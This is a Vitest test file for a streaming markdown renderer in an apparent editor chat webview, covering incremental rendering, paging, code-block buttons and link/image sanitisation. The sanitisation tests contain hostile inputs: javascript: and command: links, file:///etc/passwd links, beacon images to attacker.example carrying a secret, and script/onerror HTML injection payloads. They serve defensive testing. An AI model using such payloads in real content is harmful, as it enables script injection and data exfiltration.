// @vitest-environment happy-dom
import { describe, expect, it, vi } from 'vitest';
import { MarkdownRenderer, type MarkdownWindow } from '../../../src/webview/markdown/markdownRenderer';
import { StreamingMarkdownView, type StreamingMarkdownViewOptions } from '../../../src/webview/markdown/streamingMarkdownView';
import { createManualView, withoutPages } from './manualView';
import { MAX_INDENT_COLUMNS } from '../../../src/common/markdown/indentationCap';
import { installHappyDomCompat } from './happyDomCompat';
import { longAnswer } from './markdownCorpus';
import { mixedAnswer } from '../../bench/renderAnswers';

installHappyDomCompat(window);
const win = window as unknown as MarkdownWindow;
const renderer = new MarkdownRenderer(win);

function createView(options: StreamingMarkdownViewOptions = {}) {
  return createManualView(renderer, options);
}

function click(element: Element): MouseEvent {
  const event = new window.MouseEvent('click', { bubbles: true, cancelable: true });
  element.dispatchEvent(event);
  return event;
}

function oneShot(markdown: string): string {
  const host = document.createElement('div');
  host.append(StreamingMarkdownView.renderAll(markdown, win, renderer));
  return host.innerHTML;
}


describe('StreamingMarkdownView incremental rendering', () => {

  for (const [name, head, row] of [
    ['table', '| # | name |\n|---|---|\n', (index: number) => `| ${index} | \`row${index}\` **b** |\n`],
    ['tight list', '', (index: number) => `${index + 1}. item ${index} with *emphasis*\n   continued\n`],
  ] as const) {
    it(`renders each finished row of a long ${name} once and re-renders only the growing last one`, () => {
      const { host, view, runFrame } = createView({ segmentTailAfterChars: 500, now: () => 0 });
      let markdown = head;
      view.append(head);
      const firstRows: Element[] = [];
      for (let index = 0; index < 400; index += 1) {
        const line = row(index);
        markdown += line;
        view.append(line.slice(0, 5));
        runFrame();
        view.append(line.slice(5));
        runFrame();
        if (index === 60) firstRows.push(...Array.from(host.querySelectorAll('tr, li')).slice(0, 50));
      }
      expect(view.stats.segmentedTailUpdates).toBeGreaterThan(700);
      const block = host.querySelector('table, ol');
      view.finish();
      // Finished in place: the same element, never moved into a page (a move lays it all out again).
      expect(host.querySelector('table, ol')).toBe(block);
      expect(block?.parentNode).toBe(host);
      // The block is finished by appending its last rows: never rendered whole.
      expect(view.stats.finishedChunkRenders).toBe(0);
      expect(Array.from(host.querySelectorAll('tr, li')).slice(0, 50)).toEqual(firstRows);
      expect(host.innerHTML).toBe(oneShot(markdown));
    });
  }

  it('renders a list that turns loose at the end whole, as a one-shot render does', () => {
    const { host, view, runFrame } = createView({ segmentTailAfterChars: 100, now: () => 0 });
    const markdown = Array.from({ length: 50 }, (_, index) => `- item ${index}\n`).join('') + '\n- loose now\n';
    for (const char of markdown.match(/[\s\S]{1,7}/g) ?? []) {
      view.append(char);
      runFrame();
    }
    view.finish();
    expect(view.stats.segmentedTailUpdates).toBeGreaterThan(0);
    expect(host.innerHTML).toBe(oneShot(markdown));
    expect(host.querySelectorAll('li > p')).toHaveLength(51);
  });

  it('finishes a very long single line paragraph by paragraph while it streams, and ends as the one-shot render', () => {
    const line = Array.from({ length: 12_000 }, (_, index) => `w${index}`).join(' ') + '\n';
    const { host, view, runFrame } = createView({ now: () => 0 });
    for (let index = 0; index < line.length; index += 1000) {
      view.append(line.slice(index, index + 1000));
      runFrame();
    }
    expect(view.stats.finishedChunkRenders).toBeGreaterThanOrEqual(4);
    view.finish();
    expect(host.querySelectorAll('p').length).toBeGreaterThanOrEqual(5);
    expect(host.innerHTML).toBe(oneShot(line));
  });

  it('adds no indentation beyond six levels of lists and quotes, and none to shallower ones', () => {
    const markdown = Array.from({ length: 10 }, (_, level) => `${'  '.repeat(level)}- level ${level}`).join('\n') + '\n\n> > quote\n';
    const host = document.createElement('div');
    host.append(StreamingMarkdownView.renderAll(markdown, win, renderer));
    const lists = Array.from(host.querySelectorAll('ul'));
    expect(lists.map((list) => list.classList.contains('cw-flat'))).toEqual([false, false, false, false, false, false, true, true, true, true]);
    expect(host.querySelectorAll('blockquote.cw-flat')).toHaveLength(0);
  });

  it('renders a list nested hundreds of levels deep with every item, nested no deeper than the indentation cap', () => {
    const depth = 300;
    const markdown = Array.from({ length: depth }, (_, level) => `${'  '.repeat(level)}- level ${level}`).join('\n') + '\n';
    const { host, view, runFrame } = createView();
    for (let index = 0; index < markdown.length; index += 997) {
      view.append(markdown.slice(index, index + 997));
      runFrame();
    }
    view.finish();
    let lists = 0;
    for (let list = host.querySelector('ul'); list; list = list.querySelector(':scope > li > ul')) lists += 1;
    expect(lists).toBeLessThanOrEqual(MAX_INDENT_COLUMNS / 2 + 1);
    const text = host.textContent ?? '';
    for (let level = 0; level < depth; level += 1) expect(text).toMatch(new RegExp(`level ${level}(?!\\d)`));
    const oneShot = document.createElement('div');
    oneShot.append(StreamingMarkdownView.renderAll(markdown, win, renderer));
    expect(host.innerHTML).toBe(oneShot.innerHTML);
  });

  it('never touches finished blocks again while more text streams in', () => {
    const { host, view, runFrame } = createView();
    view.append('# Title\n\nFirst paragraph.\n\n');
    // A block is finished once the first line of the next block is complete.
    view.append('Second\n');
    runFrame();
    const heading = host.querySelector('h1');
    const first = host.querySelectorAll('p')[0];
    expect(heading?.textContent).toBe('Title');
    for (const word of ['continues', ' here\n\nThird', ' one\n\n- a list', '\n- more\n']) {
      view.append(word);
      runFrame();
    }
    view.finish();
    expect(host.querySelector('h1')).toBe(heading);
    expect(host.querySelectorAll('p')[0]).toBe(first);
    expect(view.stats.finishedChunkRenders).toBe(5);
  });

  it('re-renders the open tail at most once per animation frame', () => {
    // A clock that stands still: no render counts as slow, however busy the machine is.
    const { host, view, runFrame, frames } = createView({ now: () => 0 });
    for (const ch of 'A paragraph that streams in one character at a time') view.append(ch);
    expect(frames).toHaveLength(1);
    expect(host.textContent).toBe('');
    runFrame();
    expect(view.stats.tailRenders).toBe(1);
    expect(host.querySelector('p')?.textContent).toBe('A paragraph that streams in one character at a time');
    view.append(' more');
    view.append(' text');
    runFrame();
    expect(view.stats.tailRenders).toBe(2);
  });

  it('keeps one hidden element last in the answer while the tail re-renders, so no page or block flips to :last-child, and drops it at the end', () => {
    const { host, view, runFrame } = createView({ now: () => 0 });
    const text = longAnswer(400);
    const lastChildren = new Set<Element | null>();
    for (let index = 0; index < text.length; index += 9) {
      view.append(text.slice(index, index + 9));
      runFrame();
      lastChildren.add(host.lastElementChild);
    }
    expect(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page').length).toBeGreaterThan(1);
    expect(lastChildren.size).toBe(1);
    const [last] = lastChildren;
    expect(last?.classList.contains('cw-md-volume')).toBe(false);
    expect((last as HTMLElement | null)?.hidden).toBe(true);
    expect(last?.textContent).toBe('');
    view.finish();
    expect(host.contains(last ?? null)).toBe(false);
    expect(withoutPages(host)).toBe(oneShot(text));
  });

  it('puts streamed text on screen at most once per minFrameIntervalMs: finished blocks and the tail together, then says it rendered', () => {
    let clock = 0;
    let rendered = 0;
    const waits: number[] = [];
    const { host, view, runFrame, frames } = createView({ now: () => clock, minFrameIntervalMs: 33, onRendered: () => (rendered += 1), delay: (ms, callback) => waits.push(ms) && callback() });
    view.append('First paragraph.\n\nSecond');
    runFrame();
    expect(host.querySelectorAll('p')).toHaveLength(2);
    expect(rendered).toBe(1);
    clock = 16;
    view.append(' paragraph.\n\n- a list\n');
    runFrame();
    // Too soon: nothing changed; a frame is asked for again once the rest of the interval has passed.
    expect(host.querySelectorAll('p')).toHaveLength(2);
    expect(host.querySelector('ul')).toBeNull();
    expect(rendered).toBe(1);
    expect(waits).toEqual([17]);
    expect(frames).toHaveLength(1);
    clock = 33;
    runFrame();
    expect(Array.from(host.querySelectorAll('p'), (p) => p.textContent)).toEqual(['First paragraph.', 'Second paragraph.']);
    expect(host.querySelector('ul li')?.textContent).toBe('a list');
    expect(rendered).toBe(2);
    // Nothing new: no frame is asked for, and none renders.
    runFrame();
    expect(frames).toHaveLength(0);
    expect(rendered).toBe(2);
    // The end of the stream is not held back by the interval.
    clock = 40;
    view.append('- more\n');
    view.finish();
    expect(host.querySelectorAll('li')).toHaveLength(2);
    expect(host.innerHTML).toBe(oneShot('First paragraph.\n\nSecond paragraph.\n\n- a list\n- more\n'));
  });

  it('shows finished blocks on the next frame even while a slow tail waits', () => {
    let clock = 0;
    // Every clock reading advances 10 ms, so each tail render appears slow.
    const { host, view, runFrame } = createView({ now: () => (clock += 10) });
    view.append('| a | b |\n|---|---|\n| 1 | 2 |\n');
    runFrame();
    view.append('| 3 | 4 |\n\nA paragraph after the table.\n\nTail line\n');
    runFrame();
    expect(host.querySelectorAll('tbody tr')).toHaveLength(2);
    expect(host.querySelector('p')?.textContent).toBe('A paragraph after the table.');
  });

  it('spaces out re-renders of a tail that is slow to render, and still ends complete', () => {
    let clock = 0;
    // Every clock reading advances 10 ms, so each tail render appears to take 10 ms (slow).
    const { host, view, runFrame } = createView({ now: () => (clock += 10) });
    const rows = Array.from({ length: 40 }, (_, index) => `| ${index} | value ${index} |\n`);
    view.append('| a | b |\n|---|---|\n');
    for (const row of rows) {
      view.append(row);
      runFrame();
    }
    expect(view.stats.tailRenders).toBeGreaterThan(3);
    expect(view.stats.tailRenders).toBeLessThan(rows.length / 2);
    view.finish();
    expect(host.querySelectorAll('tbody tr')).toHaveLength(rows.length);
  });

  it('streams an open code fence as plain text and highlights it when it closes', () => {
    const { host, view, runFrame } = createView();
    view.append('```ts\nconst a = 1;\n');
    runFrame();
    const streamingCode = host.querySelector('pre > code');
    expect(streamingCode?.textContent).toBe('const a = 1;\n');
    expect(streamingCode?.querySelector('[class*="hljs"]')).toBeNull();
    view.append('const b = 2;\n');
    runFrame();
    expect(host.querySelector('pre > code')).toBe(streamingCode);
    expect(streamingCode?.textContent).toBe('const a = 1;\nconst b = 2;\n');
    // Each frame's new lines are a block of their own: a frame lays out only what it added.
    expect(Array.from(streamingCode?.querySelectorAll(':scope > .cw-code-lines') ?? [], (lines) => lines.textContent)).toEqual(['const a = 1;\n', 'const b = 2;\n']);
    expect(view.stats.tailRenders).toBe(0);
    view.append('```\n');
    runFrame();
    const finalCode = host.querySelector('pre > code');
    expect(finalCode).not.toBe(streamingCode);
    expect(finalCode?.classList.contains('hljs')).toBe(true);
    expect(finalCode?.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(host.querySelectorAll('pre')).toHaveLength(1);
  });

  it('does not show a line that is turning into the closing fence as code', () => {
    const { host, view, runFrame } = createView();
    view.append('```\nx\n``');
    runFrame();
    expect(host.querySelector('pre > code')?.textContent).toBe('x\n');
  });

  it('turns earlier [text][ref] into links when the definition arrives at the end, re-rendering only those blocks', () => {
    const { host, view, runFrame } = createView();
    view.append('Intro without references.\n\nSee [the docs][docs].\n\nMiddle.\n\n');
    runFrame();
    const intro = host.querySelector('p');
    expect(host.querySelector('a')).toBeNull();
    view.append('[docs]: https://example.com/docs\n');
    view.finish();
    const link = host.querySelector('a');
    expect(link?.getAttribute('data-cw-href')).toBe('https://example.com/docs');
    expect(link?.textContent).toBe('the docs');
    expect(host.querySelector('p')).toBe(intro);
    expect(view.stats.referenceRerenders).toBe(1);
    const oneShot = document.createElement('div');
    oneShot.append(StreamingMarkdownView.renderAll('Intro without references.\n\nSee [the docs][docs].\n\nMiddle.\n\n[docs]: https://example.com/docs\n', win, renderer));
    expect(host.innerHTML).toBe(oneShot.innerHTML);
  });

  it('keeps finished blocks in small pages while streaming, and the same pages when an answer of several pages finishes', () => {
    const { host, view, runFrame } = createView();
    const text = longAnswer(400);
    for (let index = 0; index < text.length; index += 5) {
      view.append(text.slice(index, index + 5));
      if (index % 40 === 0) runFrame();
    }
    runFrame();
    const pages = Array.from(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page'));
    expect(pages.length).toBeGreaterThan(2);
    // Each frame's layout then walks a few dozen children, not the whole answer.
    expect(host.children.length).toBeLessThan(pages.length + 10);
    for (const page of pages) expect(page.childNodes.length).toBeLessThan(32 * 8);
    const firstHeading = host.querySelector('h2');
    const parentOfFirstHeading = firstHeading?.parentNode;
    view.finish();
    // Nothing moves out of its page (that would lay out and paint the whole answer again in one frame).
    expect(Array.from(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page')).slice(0, pages.length)).toEqual(pages);
    expect(host.querySelector('h2')).toBe(firstHeading);
    expect(firstHeading?.parentNode).toBe(parentOfFirstHeading);
    const snapshot = createView();
    snapshot.view.setText(text, { finished: true });
    expect(host.innerHTML).toBe(snapshot.host.innerHTML);
    expect(withoutPages(host)).toBe(oneShot(text));
  });

  it('unwraps an answer that fits in one page when it finishes, so it is exactly a one-shot render', () => {
    const { host, view, runFrame } = createView();
    const text = longAnswer(60);
    for (let index = 0; index < text.length; index += 7) {
      view.append(text.slice(index, index + 7));
      if (index % 70 === 0) runFrame();
    }
    runFrame();
    expect(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page')).toHaveLength(1);
    const firstHeading = host.querySelector('h2');
    view.finish();
    expect(host.querySelector('.cw-md-page')).toBeNull();
    expect(host.querySelector('h2')).toBe(firstHeading);
    expect(host.innerHTML).toBe(oneShot(text));
  });

  it('keeps the pages of a 50 KB answer when it finishes: the same DOM as a finished snapshot, a one-shot render without the pages', () => {
    const text = mixedAnswer(20261129, 50_000);
    const { host, view, runFrame } = createView();
    for (let index = 0; index < text.length; index += 40) {
      view.append(text.slice(index, index + 40));
      if (index % 400 === 0) runFrame();
    }
    runFrame();
    const pagesBefore = Array.from(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page'));
    view.finish();
    const pagesAfter = Array.from(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page'));
    expect(pagesAfter.length).toBeGreaterThan(1);
    expect(pagesAfter.slice(0, pagesBefore.length)).toEqual(pagesBefore);
    const snapshot = createView();
    snapshot.view.setText(text, { finished: true });
    expect(host.innerHTML).toBe(snapshot.host.innerHTML);
    expect(withoutPages(host)).toBe(oneShot(text));
  }, 120_000);

  it('keeps the pages of a long answer when it finishes, the same pages a finished snapshot of it gets', () => {
    const text = longAnswer(1400);
    const { host, view, runFrame } = createView();
    for (let index = 0; index < text.length; index += 397) {
      view.append(text.slice(index, index + 397));
      if (index % 3970 === 0) runFrame();
    }
    const firstPage = host.querySelector('.cw-md-page');
    view.finish();
    expect(host.querySelectorAll(':scope > .cw-md-volume > .cw-md-page').length).toBeGreaterThan(8);
    // Pages sit in volumes of at most 16, so an off-screen volume spares the browser a look at each of its pages.
    const volumes = Array.from(host.querySelectorAll(':scope > .cw-md-volume'));
    expect(volumes.length).toBeLessThan(host.querySelectorAll('.cw-md-page').length);
    for (const volume of volumes) expect(volume.children.length).toBeLessThanOrEqual(16);
    expect(host.querySelectorAll(':scope > .cw-md-page')).toHaveLength(0);
    expect(host.querySelector('.cw-md-page')).toBe(firstPage);
    const snapshot = createView();
    snapshot.view.setText(text, { finished: true });
    expect(host.innerHTML).toBe(snapshot.host.innerHTML);
    // Without the page wrappers it is exactly the one-shot render.
    expect(withoutPages(host)).toBe(oneShot(text));
  }, 120_000);

  it('shows a snapshot with setText and continues it with append', () => {
    const { host, view, runFrame } = createView();
    view.append('stale text\n\n');
    view.setText('# Restored\n\nPartial ans');
    expect(host.querySelector('h1')?.textContent).toBe('Restored');
    expect(host.textContent).not.toContain('stale');
    view.append('wer.');
    runFrame();
    view.finish();
    expect(host.querySelectorAll('p')[0]?.textContent).toBe('Partial answer.');
  });

  it('renders a finished snapshot completely with setText(text, { finished: true })', () => {
    const { host, view } = createView();
    view.setText('```js\nlet x;\n```\n\n[a][r]\n\n[r]: https://r.example\n', { finished: true });
    expect(host.querySelector('code.hljs')).not.toBeNull();
    expect(host.querySelector('a')?.getAttribute('data-cw-href')).toBe('https://r.example');
    expect(() => view.append('more')).toThrow(/after finish\(\)/);
  });

  it('joins a CRLF split across deltas into one line break', () => {
    const { host, view } = createView();
    view.append('one\r');
    view.append('\ntwo\r');
    view.finish();
    expect(host.querySelector('p')?.textContent).toBe('one\ntwo');
  });
});

describe('code block toolbar', () => {
  it('offers Copy, Insert at Cursor and New File buttons that report the block’s code and language', () => {
    const onCodeAction = vi.fn();
    const { host, view } = createView({ onCodeAction });
    view.setText('```python\nprint("hi")\n```\n\n```\nplain\n```\n', { finished: true });
    const blocks = host.querySelectorAll('.cw-code-block');
    expect(blocks).toHaveLength(2);
    const buttons = Array.from(blocks[0].querySelectorAll('button'));
    expect(buttons.map((button) => button.getAttribute('title'))).toEqual(['Copy', 'Insert at Cursor', 'New File with this Code']);
    expect(buttons.map((button) => button.getAttribute('aria-label'))).toEqual(['Copy', 'Insert at Cursor', 'New File with this Code']);
    expect(buttons.every((button) => button.classList.contains('codicon') && button.type === 'button')).toBe(true);
    expect(buttons.some((button) => Array.from(button.attributes).some((attribute) => attribute.name.startsWith('on')))).toBe(false);
    buttons.forEach((button) => click(button));
    expect(onCodeAction.mock.calls).toEqual([
      ['copy', 'print("hi")', 'python'],
      ['insert', 'print("hi")', 'python'],
      ['newFile', 'print("hi")', 'python'],
    ]);
    click(blocks[1].querySelector('button')!);
    expect(onCodeAction).toHaveBeenLastCalledWith('copy', 'plain', '');
    expect(blocks[0].querySelector('.cw-code-language')?.textContent).toBe('python');
  });

  it('offers the buttons on a code block that is still streaming', () => {
    const onCodeAction = vi.fn();
    const { host, view, runFrame } = createView({ onCodeAction });
    view.append('```bash\nnpm test\n');
    runFrame();
    click(host.querySelector('button[data-cw-code-action="insert"]')!);
    expect(onCodeAction).toHaveBeenCalledWith('insert', 'npm test', 'bash');
  });

  it('stops reacting after dispose', () => {
    const onCodeAction = vi.fn();
    const { host, view } = createView({ onCodeAction });
    view.setText('```\nx\n```\n', { finished: true });
    view.dispose();
    click(host.querySelector('button')!);
    expect(onCodeAction).not.toHaveBeenCalled();
  });
});

describe('links and images policy', () => {
  it('opens http(s) links only through the onLink callback and never navigates', () => {
    const onLink = vi.fn();
    const { host, view } = createView({ onLink });
    view.setText('[site](https://example.com/a?b=1) and <http://plain.example>', { finished: true });
    const anchors = host.querySelectorAll('a');
    const event = click(anchors[0]);
    expect(event.defaultPrevented).toBe(true);
    click(anchors[1]);
    expect(onLink.mock.calls).toEqual([['https://example.com/a?b=1'], ['http://plain.example']]);
    for (const anchor of Array.from(anchors)) expect(anchor.hasAttribute('href')).toBe(false);
  });

  it('renders command:, file:, vscode:, javascript: and data: links inert', () => {
    const onLink = vi.fn();
    const { host, view } = createView({ onLink });
    view.setText(
      '[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D) [b](file:///etc/passwd) [c](vscode://ms.x/y) [d](javascript:alert(1)) [e](JaVaScRiPt:alert(1)) [f](data:text/html,<script>alert(1)</script>) [g](relative/path.md)\n\n<a href="command:x">h</a> <a href="&#106;avascript:alert(1)">i</a>',
      { finished: true },
    );
    const anchors = Array.from(host.querySelectorAll('a'));
    expect(anchors.length).toBeGreaterThanOrEqual(9);
    for (const anchor of anchors) {
      expect(anchor.hasAttribute('href')).toBe(false);
      expect(anchor.classList.contains('cw-inert-link')).toBe(true);
      const event = click(anchor);
      expect(event.defaultPrevented).toBe(true);
    }
    expect(anchors[0].getAttribute('title')).toContain('command:workbench.action.terminal.sendSequence');
    expect(onLink).not.toHaveBeenCalled();
  });

  it('never creates an element that fetches: markdown, reference-style and raw images become links with alt text and URL', () => {
    const onLink = vi.fn();
    const { host, view } = createView({ onLink });
    view.setText(
      '![diagram](https://attacker.example/x.png?secret=abc)\n\n![ref image][pic]\n\n<img src="https://attacker.example/raw.png" alt="raw" onerror="alert(1)">\n\n<picture><source srcset="https://attacker.example/s.png"><img src="https://attacker.example/p.png" alt="pic"></picture>\n\n<video poster="https://attacker.example/v.png"></video>\n\n![local](file:///etc/passwd)\n\n[pic]: https://attacker.example/ref.png\n',
      { finished: true },
    );
    expect(host.querySelector('img, picture, source, video, audio, svg, image, iframe, object, embed')).toBeNull();
    for (const element of Array.from(host.querySelectorAll('*'))) {
      for (const attribute of ['src', 'srcset', 'poster', 'background', 'style']) expect(element.hasAttribute(attribute)).toBe(false);
    }
    const placeholders = Array.from(host.querySelectorAll('a.cw-image-link'));
    expect(placeholders.map((placeholder) => placeholder.textContent)).toEqual([
      'diagram https://attacker.example/x.png?secret=abc',
      'ref image https://attacker.example/ref.png',
      'raw https://attacker.example/raw.png',
      'pic https://attacker.example/p.png',
      'local file:///etc/passwd',
    ]);
    click(placeholders[0]);
    expect(onLink).toHaveBeenCalledWith('https://attacker.example/x.png?secret=abc');
    expect(placeholders[4].hasAttribute('href')).toBe(false);
  });

  it('shows only the start of a long data: image URL and never loads it', () => {
    const { host, view } = createView();
    const data = `data:image/png;base64,${'A'.repeat(5000)}`;
    view.setText(`![pixel](${data})`, { finished: true });
    const placeholder = host.querySelector('a.cw-image-link');
    expect(placeholder?.hasAttribute('href')).toBe(false);
    expect(placeholder?.querySelector('.cw-image-url')?.textContent).toBe(`${data.slice(0, 300)}…`);
    expect(host.querySelector('img')).toBeNull();
  });

  it('strips scripts, styles, frames, forms, SVG, MathML and event handlers from raw HTML', () => {
    const { host, view } = createView();
    view.setText(
      [
        '<script>window.__pwned = 1</script>',
        '<p onclick="alert(1)" style="background:url(https://attacker.example/c)">styled</p>',
        '<style>body { background: url(https://attacker.example/s) }</style>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<form action="https://attacker.example/f"><input name="q"><button>go</button></form>',
        '<svg onload="alert(1)"><image href="https://attacker.example/i.png"/><use href="#x"/></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
        '<link rel="stylesheet" href="https://attacker.example/l.css"><meta http-equiv="refresh" content="0;url=https://attacker.example"><base href="https://attacker.example/">',
        '<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e">',
      ].join('\n\n'),
      { finished: true },
    );
    expect(host.querySelector('script, style, iframe, form, input, button:not(.cw-code-action), svg, math, link, meta, base, object, embed, img')).toBeNull();
    for (const element of Array.from(host.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        expect(attribute.name.startsWith('on')).toBe(false);
        expect(attribute.name).not.toBe('style');
      }
    }
    expect(host.textContent).toContain('styled');
    expect(host.innerHTML).not.toContain('attacker.example/c');
  });

  it('renders GFM tables and task lists without inline styles or form controls', () => {
    const { host, view } = createView();
    view.setText('| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n', { finished: true });
    expect(host.querySelector('th')?.getAttribute('align')).toBe('center');
    expect(host.querySelectorAll('td')[1]?.getAttribute('align')).toBe('right');
    const boxes = Array.from(host.querySelectorAll('li > .cw-task'));
    expect(boxes.map((box) => box.getAttribute('aria-label'))).toEqual(['done', 'not done']);
    expect(host.querySelector('input')).toBeNull();
  });
});
